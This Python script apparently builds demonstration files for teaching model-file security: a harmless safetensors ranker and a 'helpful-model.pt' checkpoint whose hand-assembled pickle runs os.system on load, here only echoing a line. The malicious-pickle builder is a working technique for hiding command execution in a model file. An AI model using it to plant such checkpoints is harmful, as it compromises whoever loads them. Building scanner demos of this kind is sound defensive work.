#!/usr/bin/env python3
"""Writes two third-party models for the demonstration, byte by byte. Nothing here is executed.

good-ranker.safetensors   a linear ranker of two tensors: only data.
helpful-model.pt          a checkpoint in PyTorch's zip layout whose pickle calls os.system when it
                          is loaded. The command only prints a line, but a real one could do
                          anything. Never load it: scan it.
"""

import json
import os
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def good():
    weight = b"".join(struct.pack("<f", ((i * 37) % 101 - 50) / 100) for i in range(64))
    bias = struct.pack("<f", 0.25)
    header = json.dumps({
        "__metadata__": {"format": "pt", "model": "good-ranker"},
        "rank.bias": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        "rank.weight": {"dtype": "F32", "shape": [1, 64], "data_offsets": [4, 260]},
    }, separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bias + weight


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def malicious_pickle():
    """{'rank.weight': os.system('echo ...')}, as protocol 2 opcodes."""
    return b"".join([
        b"\x80\x02",                                # PROTO 2
        b"}",                                       # EMPTY_DICT
        text("rank.weight"),                        # the key
        b"cos\nsystem\n",                           # GLOBAL os.system
        text("echo this model just ran a command on your machine"),
        b"\x85", b"R",                              # TUPLE1, REDUCE: the call
        b"s", b".",                                 # SETITEM, STOP
    ])


def malicious(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in [
            ("archive/data.pkl", malicious_pickle()), ("archive/byteorder", b"little"),
            ("archive/data/0", bytes(256)), ("archive/version", b"3\n"),
        ]:
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)


with open(os.path.join(HERE, "good-ranker.safetensors"), "wb") as out:
    out.write(good())
malicious(os.path.join(HERE, "helpful-model.pt"))
